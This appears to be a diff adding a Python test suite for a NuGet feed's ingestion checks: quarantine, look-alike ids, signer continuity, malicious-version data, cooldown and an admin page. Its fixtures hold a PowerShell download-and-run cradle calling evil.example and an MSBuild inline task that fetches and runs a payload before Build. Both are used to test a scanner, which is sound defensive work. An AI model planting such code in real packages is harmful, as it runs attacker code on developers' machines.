@@ -1,0 +1,463 @@
+"""Ingestion checks and quarantine (issue 16, points 2-5), on the in-process feed composed as `nuseal serve` composes
+it (:func:`nuseal.feed.compose.build_feed`): pushes scanned and held, released and rejected by an admin (CLI and web
+page), reserved prefixes, look-alike ids, signer continuity, cooldown on an injected clock, OSV malicious versions,
+and upstream packages (the real nuget.org vectors) through ``Ingestion.ingest``."""
+
+from __future__ import annotations
+
+import functools
+import json
+import re
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import anyio.from_thread
+import httpx
+import pytest
+from click.testing import CliRunner
+
+from nuseal.cli.admin import admin_group
+from nuseal.client.gate import RepositorySignatureInfo
+from nuseal.devpki import DevPki
+from nuseal.feed.accounts.keys import create_api_key, create_user
+from nuseal.feed.compose import Feed as ComposedFeed
+from nuseal.feed.compose import build_feed
+from nuseal.feed.config import FeedConfig, IngestConfig
+from nuseal.feed.mirror.admin import reserve_prefix, set_admin
+from nuseal.feed.mirror.checks import UpstreamInfo
+from nuseal.feed.store import audit
+from nuseal.hashalg import HashAlgorithm
+from nuseal.package import append_signature
+from nuseal.signature.attributes import SignatureType
+from nuseal.signature.builder import create_primary_signature
+from nuseal.signature.signer import FileSigner
+from nuseal.verify import AllowListEntry, SignaturePlacement, VerificationTarget
+
+from support.clock import VECTOR_NOW
+from .conftest import make_package, multipart
+from .upstream_support import nuget_org_repository_certificates, sha256_fingerprint, tampered, vector_files
+
+SHARED = Path(__file__).resolve().parents[3] / "shared"
+CODESIGN = str(SHARED / "trust" / "codesignctl.pem")
+TIMESTAMP = str(SHARED / "trust" / "timestampctl.pem")
+#: A download-and-run cradle in an install script (scan rule NS1110, an error).
+CRADLE = b"iex (New-Object Net.WebClient).DownloadString('http://evil.example/stage2.ps1')\n"
+#: An MSBuild inline task hooked before Build that downloads a payload and runs it from memory (NS2110, an error).
+INLINE_TASK = b"""<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003">
+  <UsingTask TaskName="Prepare" TaskFactory="RoslynCodeTaskFactory"
+             AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">
+    <Task>
+      <Code Type="Fragment" Language="cs"><![CDATA[
+        var http = new System.Net.Http.HttpClient();
+        byte[] payload = http.GetByteArrayAsync("https://203.0.113.7/p.bin").Result;
+        System.Reflection.Assembly.Load(payload).EntryPoint.Invoke(null, new object[] { new string[0] });
+      ]]></Code>
+    </Task>
+  </UsingTask>
+  <Target Name="PrepareSources" BeforeTargets="Build"><Prepare /></Target>
+</Project>
+"""
+
+
+class Client:
+    """A synchronous client of an ASGI app in this process (httpx over ``ASGITransport``, on an anyio portal)."""
+
+    def __init__(self, app: Any) -> None:
+        self._portal_cm = anyio.from_thread.start_blocking_portal()
+        self.portal = self._portal_cm.__enter__()
+        self.client = httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://testserver")
+
+    @property
+    def cookies(self) -> httpx.Cookies:
+        return self.client.cookies
+
+    def request(self, method: str, url: str, **kwargs: Any) -> httpx.Response:
+        return self.portal.call(functools.partial(self.client.request, method, url, **kwargs))
+
+    def get(self, url: str, **kwargs: Any) -> httpx.Response:
+        return self.request("GET", url, **kwargs)
+
+    def put(self, url: str, **kwargs: Any) -> httpx.Response:
+        return self.request("PUT", url, **kwargs)
+
+    def post(self, url: str, **kwargs: Any) -> httpx.Response:
+        return self.request("POST", url, **kwargs)
+
+    def close(self) -> None:
+        self.portal.call(self.client.aclose)
+        self._portal_cm.__exit__(None, None, None)
+
+
+class Clock:
+    """A clock the test moves."""
+
+    def __init__(self, now: datetime) -> None:
+        self.now = now
+
+    def __call__(self) -> datetime:
+        return self.now
+
+
+@dataclass
+class InProcessFeed:
+    composed: ComposedFeed
+    client: Client
+    clock: Clock
+    keys: dict[str, str] = field(default_factory=dict)
+
+    @property
+    def data_dir(self) -> Path:
+        return self.composed.config.data_dir
+
+    def push(self, data: bytes, key: str = "alice") -> Any:
+        return self.client.put("/api/v2/package", files=multipart(data), headers={"X-NuGet-ApiKey": self.keys[key]})
+
+    def versions(self, package_id: str) -> list[str]:
+        r = self.client.get(f"/v3/flatcontainer/{package_id.lower()}/index.json")
+        return list(r.json()["versions"]) if r.status_code == 200 else []
+
+    def nupkg(self, package_id: str, version: str, key: str | None = None) -> Any:
+        i, v = package_id.lower(), version.lower()
+        headers = {"X-NuGet-ApiKey": self.keys[key]} if key else {}
+        return self.client.get(f"/v3/flatcontainer/{i}/{v}/{i}.{v}.nupkg", headers=headers)
+
+    def search_ids(self, q: str) -> list[str]:
+        return [d["id"] for d in self.client.get("/v3/search", params={"q": q}).json()["data"]]
+
+    def registration_versions(self, package_id: str) -> list[str]:
+        r = self.client.get(f"/v3/registration/{package_id.lower()}/index.json")
+        if r.status_code != 200:
+            return []
+        return [leaf["catalogEntry"]["version"] for page in r.json()["items"] for leaf in page.get("items", [])]
+
+    def admin(self, *args: str) -> Any:
+        result = CliRunner().invoke(admin_group, [*args, "--data", str(self.data_dir)], catch_exceptions=False)
+        return result
+
+    @property
+    def ingestion(self) -> Any:
+        assert self.composed.ingestion is not None
+        return self.composed.ingestion
+
+
+def _feed(tmp_path: Path, *, now: datetime | None = None, **ingest: Any) -> Iterator[InProcessFeed]:
+    clock = Clock(now or datetime.now(UTC))
+    config = FeedConfig(
+        data_dir=tmp_path / "feed",
+        base_url="http://testserver",
+        ingest=IngestConfig(revocation_mode="offline", release_check_seconds=0, **ingest),
+    )
+    composed = build_feed(config, clock=clock)
+    composed.service.setup()
+    keys = {}
+    with composed.service.db.write() as session:
+        for name in ("alice", "bob", "root"):
+            create_user(session, name, now=clock())
+            keys[name] = create_api_key(session, name, now=clock()).key
+        set_admin(session, "root", admin=True, actor="test", now=clock())
+    client = Client(composed.app())
+    try:
+        yield InProcessFeed(composed, client, clock, keys)
+    finally:
+        client.close()
+        composed.close()
+
+
+@pytest.fixture
+def feed(tmp_path: Path) -> Iterator[InProcessFeed]:
+    yield from _feed(tmp_path)
+
+
+def assert_invisible(feed: InProcessFeed, package_id: str, version: str) -> None:
+    assert version not in feed.versions(package_id)
+    assert version not in feed.registration_versions(package_id)
+    assert feed.nupkg(package_id, version).status_code == 404
+    hits = feed.client.get("/v3/search", params={"q": package_id, "prerelease": "true"}).json()["data"]
+    assert all(version not in [v["version"] for v in h["versions"]] for h in hits if h["id"] == package_id)
+
+
+# ------------------------------------------------------------------------------------------------ pushes held
+def test_push_with_download_and_run_init_script_is_held_then_released(feed: InProcessFeed) -> None:
+    data = make_package("Contoso.Tools", "1.0.0", files={"tools/init.ps1": CRADLE})
+    r = feed.push(data)
+    assert r.status_code == 201
+    assert "held in quarantine" in r.text and "NS1110" in r.headers["X-NuGet-Warning"]
+    assert "x-nuseal-reason-phrase" not in r.headers
+    assert_invisible(feed, "Contoso.Tools", "1.0.0")
+    assert feed.client.get("/packages/Contoso.Tools").status_code == 404
+    # the reason is named to an administrator's key only
+    assert "X-NuSeal-Quarantine" not in feed.nupkg("Contoso.Tools", "1.0.0", key="alice").headers
+    reason = feed.nupkg("Contoso.Tools", "1.0.0", key="root").headers["X-NuSeal-Quarantine"]
+    assert reason.startswith("held: scan: NS1110")
+    # the same version again: 409 while it is held
+    assert feed.push(data).status_code == 409
+
+    shown = feed.admin("quarantine", "show", "Contoso.Tools", "1.0.0")
+    assert shown.exit_code == 0
+    assert "NS1110 error tools/init.ps1:1" in shown.output
+    assert "DownloadString('http://evil.example/stage2.ps1')" in shown.output
+    listed = feed.admin("quarantine", "list", "--json")
+    assert [(h["id"], h["state"], h["pushed_by"]) for h in json.loads(listed.output)] == [
+        ("Contoso.Tools", "held", "alice")
+    ]
+
+    released = feed.admin("quarantine", "release", "Contoso.Tools", "1.0.0", "--as", "root", "--note", "reviewed")
+    assert released.exit_code == 0, released.output
+    assert feed.versions("Contoso.Tools") == ["1.0.0"]
+    assert feed.registration_versions("Contoso.Tools") == ["1.0.0"]
+    assert feed.nupkg("Contoso.Tools", "1.0.0").content == data
+    assert feed.search_ids("Contoso.Tools") == ["Contoso.Tools"]
+    page = feed.client.get("/packages/Contoso.Tools/1.0.0")
+    assert page.status_code == 200
+    assert "NS1110" in page.text and "Held, then released by an administrator" in page.text
+    with feed.composed.service.db.read() as session:
+        actions = [(a.actor, a.action) for a in audit.read_audit(session, target="package:contoso.tools/1.0.0")]
+    assert ("alice", "quarantine.held") in actions and ("root", "quarantine.released") in actions
+    assert feed.admin("quarantine", "list").output.strip() == "nothing in quarantine"
+
+
+def test_msbuild_inline_task_is_held_and_rejected(feed: InProcessFeed) -> None:
+    data = make_package("Contoso.Build", "2.0.0", files={"build/Contoso.Build.targets": INLINE_TASK})
+    r = feed.push(data)
+    assert r.status_code == 201 and "NS2110" in r.text
+    assert_invisible(feed, "Contoso.Build", "2.0.0")
+    rejected = feed.admin("quarantine", "reject", "Contoso.Build", "2.0.0", "--as", "root")
+    assert rejected.exit_code == 0
+    assert_invisible(feed, "Contoso.Build", "2.0.0")
+    assert not list((feed.data_dir / "quarantine").glob("contoso.build/*/*.nupkg"))
+    states = json.loads(feed.admin("quarantine", "list", "--all", "--json").output)
+    assert [(h["id"], h["state"], h["decided_by"]) for h in states] == [("Contoso.Build", "rejected", "root")]
+
+
+def test_clean_push_records_its_checks_on_the_page(feed: InProcessFeed) -> None:
+    assert feed.push(make_package("Contoso.Clean", "1.0.0")).status_code == 201
+    page = feed.client.get("/packages/Contoso.Clean/1.0.0").text
+    for stage in ("identity", "scan", "known-bad", "continuity"):
+        assert f'data-stage="{stage}"' in page
+    assert "Passed" in page
+
+
+def test_block_rule_refuses_the_push(tmp_path: Path) -> None:
+    for f in _feed(tmp_path, block_rules=("NS11*",)):
+        r = f.push(make_package("Contoso.Blocked", "1.0.0", files={"tools/init.ps1": CRADLE}))
+        assert r.status_code == 400
+        assert "NS1110" in r.text and "blocked" in r.text
+        assert f.admin("quarantine", "list").output.strip() == "nothing in quarantine"
+
+
+# ------------------------------------------------------------------------------------------------ id protection
+def test_lookalike_of_a_popular_id_is_refused_naming_it(feed: InProcessFeed) -> None:
+    r = feed.push(make_package("Newtonsoft.Jsonn", "1.0.0"))
+    assert r.status_code == 400
+    assert "Newtonsoft.Json " in r.text or "Newtonsoft.Json (" in r.text
+    assert feed.versions("Newtonsoft.Jsonn") == []
+
+
+def test_lookalike_of_an_id_on_the_feed_is_refused_for_another_owner(feed: InProcessFeed) -> None:
+    assert feed.push(make_package("Fabrikam.Widgets", "1.0.0")).status_code == 201
+    r = feed.push(make_package("Fabrikam.Widgetz", "1.0.0"), key="bob")
+    assert r.status_code == 400 and "Fabrikam.Widgets" in r.text
+    # its owner may name a sibling like that
+    assert feed.push(make_package("Fabrikam.Widgetz", "1.0.0")).status_code == 201
+
+
+def test_reserved_prefix_only_for_its_owner(feed: InProcessFeed) -> None:
+    result = feed.admin("reserve-prefix", "Contoso.", "alice", "--as", "root")
+    assert result.exit_code == 0, result.output
+    r = feed.push(make_package("Contoso.Payments", "1.0.0"), key="bob")
+    assert r.status_code == 403 and "Contoso." in r.text and "reserved" in r.text
+    assert feed.push(make_package("Contoso.Payments", "1.0.0")).status_code == 201
+    page = feed.client.get("/packages/Contoso.Payments").text
+    assert 'id="verified"' in page
+    assert feed.push(make_package("Other.Payments", "1.0.0"), key="bob").status_code == 201
+    assert 'id="verified"' not in feed.client.get("/packages/Other.Payments").text
+
+
+# ------------------------------------------------------------------------------------------------ signer continuity
+@pytest.fixture(scope="module")
+def dev_pki(tmp_path_factory: pytest.TempPathFactory) -> DevPki:
+    return DevPki.create(tmp_path_factory.mktemp("pki"))
+
+
+def author_signed(data: bytes, pki: DevPki, name: str) -> bytes:
+    """Author-signed (no timestamp) with dev-PKI certificate ``name``."""
+    now = datetime.now(UTC)
+    der = create_primary_signature(
+        package_hash=HashAlgorithm.SHA256.digest(data),
+        hash_algorithm=HashAlgorithm.SHA256,
+        signer=FileSigner.from_pfx(pki.pfx_path(name), pki.pfx_password),
+        signature_type=SignatureType.AUTHOR,
+        signing_time=now,
+        timestamper=None,
+    )
+    return append_signature(data, der, when=now)
+
+
+def test_signer_change_is_held_with_both_identities_then_accepted(feed: InProcessFeed, dev_pki: DevPki) -> None:
+    pid = "Contoso.Signed"
+    assert feed.push(author_signed(make_package(pid, "1.0.0"), dev_pki, "author")).status_code == 201
+    r = feed.push(author_signed(make_package(pid, "2.0.0"), dev_pki, "repository"))
+    assert r.status_code == 201 and "author signer changed" in r.text
+    assert_invisible(feed, pid, "2.0.0")
+    view = feed.ingestion.quarantine.get(pid, "2.0.0")
+    evidence = view.reasons[0]["evidence"]
+    assert evidence["signer"]["subject"] != evidence["accepted"][0]["subject"]
+    assert evidence["signer"]["fingerprint"] != evidence["accepted"][0]["fingerprint"]
+    shown = feed.admin("quarantine", "show", pid, "2.0.0").output
+    assert "new signer:" in shown and "accepted:" in shown
+
+    accepted = feed.admin("quarantine", "accept-signer", pid, "2.0.0", "--as", "root")
+    assert accepted.exit_code == 0, accepted.output
+    assert "released Contoso.Signed 2.0.0" in accepted.output
+    assert feed.versions(pid) == ["1.0.0", "2.0.0"]
+    # the next version by the new signer passes; losing the signature is held
+    assert "held" not in feed.push(author_signed(make_package(pid, "3.0.0"), dev_pki, "repository")).text
+    assert "3.0.0" in feed.versions(pid)
+    r = feed.push(make_package(pid, "4.0.0"))
+    assert r.status_code == 201 and "not author-signed" in r.text
+    assert_invisible(feed, pid, "4.0.0")
+    with feed.composed.service.db.read() as session:
+        rows = audit.read_audit(session, actions=["signer.accepted"])
+    assert [(a.actor, a.target) for a in rows] == [("root", "package:contoso.signed")]
+
+
+# ------------------------------------------------------------------------------------------------ known bad
+def _osv(folder: Path, package_id: str, version: str, *, malicious: bool) -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    ident = "MAL-2026-0001" if malicious else "GHSA-aaaa-bbbb-cccc"
+    record = {
+        "id": ident,
+        "modified": "2026-11-01T00:00:00Z",
+        "summary": "Malicious code in " + package_id if malicious else "A vulnerability",
+        "affected": [{"package": {"ecosystem": "NuGet", "name": package_id}, "versions": [version]}],
+    }
+    (folder / f"{ident}.json").write_text(json.dumps(record))
+    return folder
+
+
+def test_osv_malicious_version_is_refused_for_good(tmp_path: Path) -> None:
+    osv = _osv(tmp_path / "osv", "Evil.Package", "1.0.0", malicious=True)
+    for f in _feed(tmp_path, osv_path=str(osv)):
+        r = f.push(make_package("Evil.Package", "1.0.0"))
+        assert r.status_code == 400 and "MAL-2026-0001" in r.text
+        path = tmp_path / "evil.nupkg"
+        path.write_bytes(make_package("Evil.Package", "1.0.0"))
+        outcome = f.ingestion.ingest(path, UpstreamInfo("https://upstream.example/v3/index.json"))
+        assert outcome.refused and "MAL-2026-0001" in outcome.message
+        again = f.ingestion.ingest(path, UpstreamInfo("https://upstream.example/v3/index.json"))
+        assert again.refused and again.results and again.results[0].stage == "known-bad"
+        assert f.versions("Evil.Package") == []
+        assert f.ingestion.visible_versions("Evil.Package", [("1.0.0", None), ("1.0.1", None)]) == ["1.0.1"]
+        assert f.push(make_package("Evil.Package", "1.0.0")).status_code == 409
+
+
+# ------------------------------------------------------------------------------------------------ cooldown
+def test_cooldown_hides_young_upstream_versions_until_they_are_old_enough(tmp_path: Path) -> None:
+    start = datetime(2026, 12, 1, tzinfo=UTC)
+    for f in _feed(tmp_path, now=start, min_release_age_seconds=3 * 86400):
+        published_old, published_new = start - timedelta(days=10), start - timedelta(days=1)
+        listing = [("1.0.0", published_old), ("1.1.0", published_new)]
+        assert f.ingestion.visible_versions("Upstream.Lib", listing) == ["1.0.0"]
+        assert f.ingestion.appears_at("Upstream.Lib", "1.1.0", published_new) == published_new + timedelta(days=3)
+        path = tmp_path / "lib.nupkg"
+        path.write_bytes(make_package("Upstream.Lib", "1.1.0"))
+        outcome = f.ingestion.ingest(path, UpstreamInfo("https://upstream.example/v3/index.json", published=published_new))
+        assert outcome.held and outcome.release_at == published_new + timedelta(days=3)
+        assert f.versions("Upstream.Lib") == []
+        assert f.ingestion.quarantine.release_due() == []  # not yet
+        f.clock.now = start + timedelta(days=2, hours=1)
+        [done] = f.ingestion.quarantine.release_due()
+        assert f.ingestion.visible_versions("Upstream.Lib", listing) == ["1.0.0", "1.1.0"]
+        assert (done.id, done.version) == ("Upstream.Lib", "1.1.0")
+        assert f.versions("Upstream.Lib") == ["1.1.0"]
+        assert f.nupkg("Upstream.Lib", "1.1.0").content == path.read_bytes()
+        page = f.client.get("/packages/Upstream.Lib/1.1.0").text
+        assert "cooldown" in page
+
+
+def test_cooldown_override_per_version(tmp_path: Path) -> None:
+    start = datetime(2026, 12, 1, tzinfo=UTC)
+    for f in _feed(tmp_path, now=start, min_release_age_seconds=7 * 86400):
+        young = start - timedelta(hours=1)
+        path = tmp_path / "x.nupkg"
+        path.write_bytes(make_package("Upstream.Fast", "2.0.0"))
+        assert f.ingestion.ingest(path, UpstreamInfo("https://u.example/v3/index.json", published=young)).held
+        out = f.admin("quarantine", "override-cooldown", "Upstream.Fast", "2.0.0", "--as", "root")
+        assert out.exit_code == 0 and "released Upstream.Fast 2.0.0" in out.output
+        assert f.versions("Upstream.Fast") == ["2.0.0"]
+        assert f.ingestion.visible_versions("Upstream.Fast", [("2.0.0", young), ("2.1.0", young)]) == ["2.0.0"]
+
+
+# ------------------------------------------------------------------------------------------------ upstream signatures
+def _nuget_org_info() -> RepositorySignatureInfo:
+    entries = tuple(
+        AllowListEntry(
+            fingerprint=sha256_fingerprint(c),
+            target=VerificationTarget.REPOSITORY,
+            placement=SignaturePlacement.ANY,
+        )
+        for c in nuget_org_repository_certificates()
+    )
+    return RepositorySignatureInfo(True, entries)
+
+
+def test_upstream_vectors_accepted_byte_for_byte_and_tampered_refused(tmp_path: Path) -> None:
+    for f in _feed(tmp_path, now=VECTOR_NOW):
+        object.__setattr__(f.ingestion.checks.settings, "code_signing_roots", CODESIGN)
+        object.__setattr__(f.ingestion.checks.settings, "timestamping_roots", TIMESTAMP)
+        info = UpstreamInfo("https://api.nuget.org/v3/index.json", _nuget_org_info(), published=VECTOR_NOW)
+        (key, path) = next((k, p) for k, p in sorted(vector_files().items()) if k[0] != "newtonsoft.json")
+        outcome = f.ingestion.ingest(path, info)
+        assert outcome.accepted, outcome.message
+        assert f.nupkg(*key).content == path.read_bytes()
+        with f.composed.service.db.read() as session:
+            from nuseal.feed.store.models import Package  # noqa: PLC0415
+
+            row = session.query(Package).filter_by(id_lower=key[0]).one()
+            assert row.origin == "upstream"
+        bad = tmp_path / "tampered.nupkg"
+        other_key, other = next((k, p) for k, p in sorted(vector_files().items()) if k[0] not in (key[0], "newtonsoft.json"))
+        bad.write_bytes(tampered(other))
+        refused = f.ingestion.ingest(bad, info)
+        assert refused.refused and "NU3008" in refused.message
+        assert f.versions(other_key[0]) == []
+        # Newtonsoft.Json's repository countersignature is not by a certificate nuget.org lists
+        newtonsoft = next(p for k, p in vector_files().items() if k[0] == "newtonsoft.json")
+        assert f.ingestion.ingest(newtonsoft, info).refused
+
+
+# ------------------------------------------------------------------------------------------------ web page
+def _sign_in(feed: InProcessFeed, key: str) -> None:
+    page = feed.client.get("/account/login")
+    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text)
+    assert csrf is not None
+    r = feed.client.post(
+        "/account/login", data={"api_key": feed.keys[key], "csrf": csrf.group(1)}, follow_redirects=False
+    )
+    assert r.status_code == 303, r.text
+
+
+def test_admin_page_shows_evidence_and_releases_with_csrf(feed: InProcessFeed) -> None:
+    assert feed.push(make_package("Contoso.Page", "1.0.0", files={"tools/install.ps1": CRADLE})).status_code == 201
+    _sign_in(feed, "bob")
+    assert feed.client.get("/admin/quarantine").status_code == 403
+    feed.client.cookies.clear()
+    _sign_in(feed, "root")
+    page = feed.client.get("/admin/quarantine")
+    assert page.status_code == 200
+    assert "NS1110" in page.text and "DownloadString(&#39;http://evil.example/stage2.ps1&#39;)" in page.text
+    assert "script-src" not in page.headers["content-security-policy"]
+    assert "default-src 'none'" in page.headers["content-security-policy"]
+    assert page.headers["x-frame-options"] == "DENY"
+    # a form without the session's CSRF token changes nothing
+    r = feed.client.post("/admin/quarantine/Contoso.Page/1.0.0/release", data={"csrf": "x" * 43})
+    assert r.status_code == 403
+    assert feed.versions("Contoso.Page") == []
+    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text)
+    assert csrf is not None
+    r = feed.client.post("/admin/quarantine/Contoso.Page/1.0.0/release", data={"csrf": csrf.group(1), "note": "ok"})
+    assert r.status_code == 200 and "Released Contoso.Page 1.0.0" in r.text
+    assert feed.versions("Contoso.Page") == ["1.0.0"]
